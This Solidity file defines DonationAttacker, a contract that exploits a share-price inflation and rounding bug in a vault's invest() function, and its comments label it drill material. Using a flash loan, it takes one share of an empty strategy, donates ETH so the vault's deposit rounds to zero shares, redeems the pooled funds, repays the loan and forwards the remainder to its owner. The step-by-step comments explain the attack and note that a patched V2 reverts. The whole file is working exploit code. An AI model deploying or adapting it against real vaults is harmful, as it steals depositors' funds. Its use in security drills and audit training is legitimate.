// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {FlashLender, IETHFlashBorrower} from "./FlashLender.sol";
import {StrategyShares} from "./StrategyShares.sol";

/// @dev The share-vault function the attacker needs (every ShareVault
/// version has it).
interface IShareVault {
    function invest() external returns (uint256 shares);
}

/// @title DonationAttacker - exploits ShareVaultV1.invest (drill material)
/// @notice How the attack works, for `attack{value: 1 ether}(12 ether)`
/// while the strategy is empty and the vault's next invest() is 11 ether:
///   1. flash-borrow 12 ETH from the FlashLender;
///   2. in onFlashLoan, deposit 1 wei into the empty strategy: 1 share;
///   3. donate the 12 ETH to the strategy by a plain transfer: the one
///      share is now worth 12 ETH + 1 wei;
///   4. call vault.invest(): the vault deposits 11 ETH, and
///      11e18 * 1 / (12e18 + 1) rounds down to 0 shares;
///   5. redeem the one share: 23 ETH + 1 wei, the vault's 11 ETH included;
///   6. repay 12 ETH plus the 0.006 ETH fee;
///   7. send everything left to the owner.
/// The strategy is empty again afterwards, so the attack works again on the
/// next invest(). Against ShareVaultV2 step 4 reverts ("invest: share price
/// manipulated"), so the whole transaction reverts.
contract DonationAttacker is IETHFlashBorrower {
    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    /// @notice Who deployed this contract and receives the loot.
    address public immutable owner;
    /// @notice The share vault (its proxy address) under attack.
    IShareVault public immutable vault;
    /// @notice The strategy the vault invests in.
    StrategyShares public immutable strategy;
    /// @notice Where the donation comes from.
    FlashLender public immutable lender;

    /// @notice Emitted inside the flash loan: the donation, the shares the
    /// vault got for its deposit (0 when the attack works) and what the
    /// attacker's one share redeemed for.
    event Inflated(uint256 donation, uint256 vaultShares, uint256 redeemed);
    /// @notice Emitted once per attack: the loan and what the owner got.
    event Looted(uint256 loan, uint256 payout);

    constructor(address vault_, address strategy_, address lender_) {
        owner = msg.sender;
        vault = IShareVault(vault_);
        strategy = StrategyShares(payable(strategy_));
        lender = FlashLender(payable(lender_));
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "not owner");
        _;
    }

    /// @notice Flash-borrow `donation` wei and run the attack. Send a little
    /// ETH with the call for the 1 wei deposit and the loan fee.
    function attack(uint256 donation) external payable onlyOwner {
        lender.flashLoan(this, lender.ETH(), donation, "");
        uint256 payout = address(this).balance;
        (bool ok, ) = owner.call{value: payout}("");
        require(ok, "payout failed");
        emit Looted(donation, payout);
    }

    /// @notice The flash loan's callback: steps 2 to 6.
    function onFlashLoan(address initiator, address, uint256 amount, uint256 fee, bytes calldata)
        external
        payable
        returns (bytes32)
    {
        require(msg.sender == address(lender) && initiator == address(this), "untrusted loan");
        require(strategy.totalSupply() == 0, "strategy not empty");

        // 2. the first depositor: 1 wei, 1 share.
        strategy.deposit{value: 1}(address(this));
        // 3. the donation.
        (bool ok, ) = address(strategy).call{value: amount}("");
        require(ok, "donation failed");
        // 4. the vault's deposit now rounds to nothing.
        uint256 vaultShares = vault.invest();
        // 5. one share, everything.
        uint256 redeemed = strategy.redeem(strategy.balanceOf(address(this)), address(this));
        emit Inflated(amount, vaultShares, redeemed);

        // 6. repay the lender.
        (ok, ) = address(lender).call{value: amount + fee}("");
        require(ok, "repay failed");
        return CALLBACK_SUCCESS;
    }

    /// @notice The loan and the redeemed ETH arrive here.
    receive() external payable {}
}
